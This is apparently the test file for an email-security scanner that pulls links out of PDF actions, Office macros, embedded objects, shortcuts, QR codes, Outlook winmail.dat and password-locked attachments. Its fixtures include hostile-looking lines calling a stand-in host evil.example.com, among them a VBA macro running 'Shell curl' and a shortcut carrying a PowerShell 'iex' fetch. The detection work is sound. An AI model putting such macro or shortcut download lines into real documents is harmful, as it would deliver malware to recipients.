"""What the tables of forms do not show: actions of PDF, locked and rare files, passwords, several codes, what is worth a look."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pikepdf
import pytest
from msoffcrypto.format.ooxml import OOXMLFile
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from tests.message.attachments import made

from mailward.message import parse
from mailward.message.attachments import Attachment, Examined, passwords, tnef, worth
from mailward.message.attachments.examine import examine
from mailward.message.attachments.gathering import Gathering

_URL = "https://evil.example.com/a"


_MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + (54).to_bytes(4, "little") + f"{_URL}\0".encode("utf-16-le")
_NATIVE = bytes(6) + b"a.html\0C:\\a.html\0" + bytes(8) + b"C:\\a.html\0" + bytes(4) + f"<a href='{_URL}'>".encode()


def _look(name: str, content: bytes, text: str = "") -> Examined:
    return examine([Attachment(name, "", "", content)], text)


def _urls(examined: Examined) -> list[str]:
    return [one.url for one in examined.urls]


def _names(examined: Examined) -> list[str]:
    return [finding.name for finding in examined.findings]


_ACTIONS = {
    "script": {"/OpenAction": Dictionary(S=Name.JavaScript, JS=String(f"app.launchURL('{_URL}', true)"))},
    "script, escaped": {"/OpenAction": Dictionary(S=Name.JavaScript, JS=String('x = "https:\\/\\/evil.example.com\\/a"'))},
    "launch": {"/OpenAction": Dictionary(S=Name.Launch, F=Dictionary(Type=Name.Filespec, F=String(_URL)))},
    "remote": {"/OpenAction": Dictionary(S=Name.GoToR, F=String(_URL), D=[0, Name.Fit])},
    "form": {"/AA": Dictionary(WC=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(_URL))))},
    "bookmark": {
        "/Outlines": Dictionary(Type=Name.Outlines, First=Dictionary(Title=String("x"), A=Dictionary(S=Name.URI, URI=String(_URL))))
    },
    "base": {"/URI": Dictionary(Base=String(_URL))},
    "names": {
        "/Names": Dictionary(JavaScript=Dictionary(Names=Array([String("a"), Dictionary(S=Name.JavaScript, JS=String(f'"{_URL}"'))])))
    },
    "nobody leads there": {"/Strange": Dictionary(S=Name.URI, URI=String(_URL))},
}


@pytest.mark.parametrize("name", _ACTIONS)
def test_actions_of_pdf(name: str) -> None:
    """Whatever the document may open, by itself or by a click."""
    examined = _look("a.pdf", made.pdf(("x",), root=_ACTIONS[name]))
    assert _urls(examined) == [_URL]
    assert examined.findings == ()


def test_files_within_pdf() -> None:
    """An embedded file is looked into as any other."""
    file = f"<a href='{_URL}'>x</a>".encode()
    document = pikepdf.open(made.io.BytesIO(made.pdf(("x",))))
    document.attachments["a.html"] = pikepdf.AttachedFileSpec(document, file)
    out = made.io.BytesIO()
    document.save(out)
    assert _urls(_look("a.pdf", out.getvalue())) == [_URL]


def test_addresses_broken_over_lines_of_a_page() -> None:
    """A page breaks lines where it likes; both the short and the long form count."""
    examined = _look("a.pdf", made.pdf(("Please open https://evil.example.com/ac", "count/ver", "ify?x=1", "today")))
    assert "https://evil.example.com/account/verify?x=1" in _urls(examined)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", made.pdf(("x",), (_URL,), password="unknown")),
        ("a.docx", made.compound({"EncryptionInfo": b"x", "EncryptedPackage": b"x"})),
        ("a.doc", made.compound({"WordDocument": bytes(11) + b"\x01"})),
        ("a.xls", made.compound({"Workbook": b"\x09\x08\x04\x00\x00\x06\x05\x00\x2f\x00\x02\x00\x01\x00"})),
        ("a.ppt", made.compound({"Current User": bytes(12) + bytes.fromhex("dfc4d1f3"), "PowerPoint Document": b""})),
    ],
)
def test_locked_documents_are_told(name: str, content: bytes) -> None:
    """Without the password there is a finding, and nothing else."""
    examined = _look(name, content, "no word of a password")
    assert (_urls(examined), _names(examined)) == ([], ["attachment:encrypted"])


@pytest.mark.parametrize("method", ["ZipCrypto", "AES256"])
def test_a_locked_zip_without_its_password(method: str) -> None:
    """The words of the message do not fit."""
    examined = _look("a.zip", made.locked_zip({"a.html": b"x" * 1000}, method, "unknown"), made.ANNOUNCED)
    assert _names(examined) == ["attachment:encrypted"]


def test_a_locked_7z() -> None:
    """libarchive does not open these."""
    examined = _look("a.7z", made.seven_zip({"a.html": b"x" * 100}, f"-p{made.PASSWORD}", "-mhe=on"), made.ANNOUNCED)
    assert "attachment:encrypted" in _names(examined)


@pytest.mark.parametrize(
    "text",
    [
        "Password: Xy7-kl!",
        "the archive password is Xy7-kl!",
        'Das Passwort lautet "Xy7-kl!".',
        "Le mot de passe : Xy7-kl!",
        "contraseña del archivo: Xy7-kl!",
        "Use Xy7-kl! as the password",
        "解压密码：Xy7-kl!",
        "パスワードは「Xy7-kl!」です",
        "пароль для архива - Xy7-kl!",
        "PIN=Xy7-kl!",
        "Xy7-kl! opens it",
    ],
)
def test_passwords_are_found_in_many_languages(text: str) -> None:
    """Near the word for it, and where a word looks like one."""
    found = passwords.candidates(f"Dear customer,\nthe invoice is attached. {text}\nBest regards\n" + "more words " * 1000)
    assert "Xy7-kl!" in found
    assert len(found) <= 60


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.doc", made.compound({"Macros/VBA/Module1": made.macro(f'Shell "curl {_URL}"')})),
        ("vbaProject.bin", made.compound({"VBA/Module1": made.macro(f'Shell "curl {_URL}"')})),
        ("a.xls", made.compound({"Workbook": _MONIKER})),
        ("a.doc", made.compound({"ObjectPool/_1/Package": made.docx(target=_URL)})),
        ("a.doc", made.compound({"ObjectPool/_1/\x01Ole10Native": _NATIVE})),
        ("a.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60) + f"-c iex {_URL} ".encode("utf-16-le")),
        ("a.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(90) + f"{_URL}\0".encode("utf-16-le")),
        ("a.dat", b"\x1f\x8b" + made.gzip.compress(_URL.encode(), mtime=0)[2:]),
    ],
)  # fmt: skip
def test_rarer_places(name: str, content: bytes) -> None:
    """Macros, embedded files, shortcuts."""
    assert _urls(_look(name, content)) == [_URL]


def test_several_codes_in_one_picture() -> None:
    """Each is read."""
    one, other = made.grey(made.qr(_URL)), made.grey(made.qr("https://other.example.org/"))
    both = Image.new("L", (one.width + other.width, max(one.height, other.height)), 255)
    both.paste(one, (0, 0))
    both.paste(other, (one.width, 0))
    assert sorted(_urls(_look("a.png", made.saved(both)))) == [_URL, "https://other.example.org/"]


@pytest.mark.parametrize("colour", ["black", "white"])
def test_codes_of_transparent_pictures(colour: str) -> None:
    """Drawn on nothing in black, or in white for dark screens."""
    code = made.grey(made.qr(_URL)).point(lambda value: 255 - value)
    picture = Image.new("RGBA", code.size, (0, 0, 0, 0))
    picture.paste(Image.new("RGBA", code.size, colour), mask=code)
    assert _urls(_look("a.png", made.saved(picture))) == [_URL]


def test_a_code_in_a_large_picture() -> None:
    """Twenty megapixels with a small code in it."""
    page = Image.new("RGB", (5472, 3648), "white")
    page.paste(made.grey(made.qr(_URL)).resize((400, 400)).convert("RGB"), (4000, 2000))
    assert _urls(_look("a.jpg", made.saved(page, "JPEG"))) == [_URL]


def test_a_code_in_a_later_frame() -> None:
    """A moving picture that begins blank."""
    code = made.grey(made.qr(_URL))
    blank = Image.new("L", code.size, 255)
    assert _urls(_look("a.gif", made.saved(blank, "GIF", save_all=True, append_images=[code]))) == [_URL]


def test_a_code_split_over_two_parts_of_a_message() -> None:
    """Neighbouring pictures of a message, in either order."""
    code = made.grey(made.qr(_URL))
    halves = [code.crop((0, 0, code.width // 2, code.height)), code.crop((code.width // 2, 0, code.width, code.height))]
    for order in (halves, halves[::-1]):
        files = [Attachment(f"{i}.png", "image/png", "", made.saved(half)) for i, half in enumerate(order)]
        assert _urls(examine(files)) == [_URL]


def _mail(kind: str, content: bytes, text: str = "hello") -> tuple[Attachment, ...]:
    return worth(parse(made.with_file("a", content, text, kind)))


def test_small_pictures_are_not_worth_it() -> None:
    """Tracking pixels, lines and icons start no helper; what can hold a code, or half of one, does."""
    assert not _mail("image/gif", made.saved(Image.new("L", (1, 1)), "GIF"))
    assert not _mail("image/png", made.saved(Image.effect_noise((600, 10), 90)))
    assert not _mail("image/png", made.saved(Image.effect_noise((32, 32), 90)))
    assert _mail("image/png", made.saved(Image.effect_noise((100, 50), 90)))
    assert _mail("image/png", made.qr(_URL))


def test_ordinary_bodies_are_not_worth_it() -> None:
    """Only a body in which a code may be drawn goes to a helper."""
    newsletter = (
        "<table>" + "<tr><td bgcolor=white>Figures</td><td background=a.png>of <a href='https://example.com/'>November</a></td></tr>" * 40
    )
    assert worth(parse(made.mail("hello █ world\n" * 20))) == ()
    assert worth(parse(made.mail(newsletter + "</table>", "html"))) == ()
    assert [each.place for each in worth(parse(made.mail(made.code_table(_URL), "html")))] == ["html"]
    assert [each.place for each in worth(parse(made.mail(made.code_text(_URL))))] == ["text"]
    for page in (made.code_placed(_URL), made.code_shadows(_URL), made.code_svg_path(_URL), made.code_box_runs(_URL)):
        assert [each.place for each in worth(parse(made.mail(page, "html")))] == ["html"]
    for page in ("<div>x</div>" * 300, "<svg><path d='M1,2'/></svg>" + "x" * 3000, "<p style='box-shadow:1px 1px 2px #000'>x</p>" * 80):
        assert worth(parse(made.mail(page, "html"))) == ()
    assert worth(parse(made.mail("# heading ## more\n" * 50))) == ()


def test_without_libarchive() -> None:
    """What it would open is a finding; everything else is read."""
    program = (
        "import sys\nfrom mailward.message.attachments import Attachment\nfrom mailward.message.attachments.examine import examine\n"
        "examined = examine([Attachment('a.rar', '', '', sys.stdin.buffer.read()), Attachment('a.txt', '', '', b'https://evil.example.com/a')])\n"
        "print([one.url for one in examined.urls], [finding.name for finding in examined.findings])"
    )
    environment = {**os.environ, "LIBARCHIVE": "/nonexistent/libarchive.so.13"}
    content = made.rar5("a.txt", b"https://other.example.com/")
    done = subprocess.run([sys.executable, "-c", program], input=content, env=environment, check=True, capture_output=True)
    assert done.stdout.decode().strip() == "['https://evil.example.com/a'] ['attachment:unread']"


_PACKED_RTF = {  # the examples of MS-OXRTFCP 4
    "2d0000002b0000004c5a4675f1c5c7a703000a007263706731323542320af32068656c090020627705b06c647d0a800fa0": b"{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n",
    "1a0000001c0000004c5a4675e2d44b51410004205758595a0d6e7d010eb0": b"{\\rtf1 WXYZWXYZWXYZWXYZWXYZ}",
}


@pytest.mark.parametrize("packed", _PACKED_RTF)
def test_rich_text_of_outlook_is_unpacked(packed: str) -> None:
    """As its specification does it; cut or damaged it ends early, and what is not packed is taken as it is."""
    content = bytes.fromhex(packed)
    whole = _PACKED_RTF[packed]
    assert tnef.rich_text(content) == whole
    for cut in range(len(content)):
        assert whole.startswith(tnef.rich_text(content[:cut])[:-20])
    assert tnef.rich_text(bytes(4) + b"\x05\x00\x00\x00MELA" + bytes(4) + b"plain and more") == b"plain"
    assert tnef.rich_text(b"something else that is long enough") == b""


def test_rich_text_of_outlook_is_bounded() -> None:
    """A few octets that repeat for ever end at the limit."""
    bomb = bytes(4) + b"\xff\xff\xff\x7f" + b"LZFu" + bytes(4) + b"\x00aaaaaaaa" + (b"\xff" + b"\x0d\x1f" * 8) * 500_000
    assert len(tnef.rich_text(bomb)) <= tnef.UNPACKED_BYTES


def test_the_body_of_an_outlook_message_is_read_packed_too() -> None:
    """Outlook saves most bodies as packed rich text only, with the HTML inside."""
    rich = made.packed_rtf(b'{\\rtf1\\ansi\\fromhtml1 {\\*\\htmltag84 <a href="' + _URL.encode() + b'">}here{\\*\\htmltag92 </a>}}')
    streams = {"__properties_version1.0": b"", "__substg1.0_10090102": rich}
    assert _urls(_look("a.msg", made.compound(streams))) == [_URL]


@pytest.mark.skipif(not shutil.which("tnef"), reason="needs tnef (Debian package tnef)")
@pytest.mark.parametrize("long_names", [False, True])
def test_another_program_reads_the_same_files(tmp_path: Path, long_names: bool) -> None:
    """The winmail.dat of these tests is one to Debian's `tnef` too."""
    files = {"a-page.html": f"<a href='{_URL}'>x</a>".encode(), "b.bin": bytes(range(256)) * 3}
    content = made.tnef("hello", files, long_names=long_names)
    done = subprocess.run(["tnef", "-C", str(tmp_path), "--unix-paths"], input=content, capture_output=True, check=False)
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == files, done.stderr
    gathered = Gathering()
    assert dict(tnef.look(content, "x", gathered)) == files
    assert gathered.examined().findings == ()


def test_damaged_winmail_is_read_as_far_as_it_goes() -> None:
    """Cut anywhere, it is a finding at most."""
    content = made.tnef("see", {"a.html": f"<a href='{_URL}'>x</a>".encode(), "b.txt": b"hello"}, long_names=True)
    for cut in range(0, len(content), 7):
        assert set(_names(_look("winmail.dat", content[:cut]))) <= {"attachment:damaged"}
    assert _urls(_look("winmail.dat", content[:-10])) == [_URL]


def test_messages_within_winmail() -> None:
    """A forwarded message is an object, whose winmail.dat begins behind the name of its interface."""
    inner = made.tnef("see", {"a.html": f"<a href='{_URL}'>x</a>".encode()})
    values = {(0x0D, 0x3701): bytes(16) + inner, (0x1F, 0x3704): "forwarded\0".encode("utf-16-le")}
    outer = made.tnef("see") + made._tnef_attribute(2, 0x69002, bytes(14)) + made._tnef_attribute(2, 0x69005, made._properties(values))
    (found,) = _look("winmail.dat", outer).urls
    assert (found.url, found.found_in) == (_URL, "attachment:winmail.dat/forwarded/a.html")


@pytest.mark.parametrize("name", ["docx", "doc", "xlsx"])
def test_locked_office_documents(name: str) -> None:
    """What LibreOffice locked opens with the password of the message, and with no other."""
    content = (made.VECTORS / f"locked.{name}").read_bytes()
    opened = _look(f"a.{name}", content, made.ANNOUNCED)
    assert _urls(opened) == ["https://bad.example.com/login?x=1"]
    assert opened.findings == ()
    closed = _look(f"a.{name}", content, "the password is: another-1")
    assert (_urls(closed), _names(closed)) == ([], ["attachment:encrypted"])


def test_a_password_that_excel_knows() -> None:
    """Excel opens such a workbook without asking, and so it is read whatever the message says."""
    assert _urls(_look("a.xls", (made.VECTORS / "locked.xls").read_bytes())) == ["https://bad.example.com/login?x=1"]


def test_documents_locked_as_office_does_today() -> None:
    """With 100,000 turns for each word only a few are tried; with many more none is."""
    out = made.io.BytesIO()
    large = made.docx("Dear customer", _URL, {"a.bin": os.urandom(9000)})  # the library locks small files wrongly
    OOXMLFile(made.io.BytesIO(large)).encrypt(made.PASSWORD, out)
    assert _urls(_look("a.docx", out.getvalue(), made.ANNOUNCED)) == [_URL]
    slow = out.getvalue().replace(b'spinCount="100000"', b'spinCount="999999"')
    assert slow != out.getvalue()
    assert _names(_look("a.docx", slow, made.ANNOUNCED)) == ["attachment:encrypted"]
    started = time.process_time()
    words = "".join(f"the password is word{n}7 " for n in range(60))
    assert _names(_look("a.docx", out.getvalue(), words)) == ["attachment:encrypted"]
    assert time.process_time() - started < 6
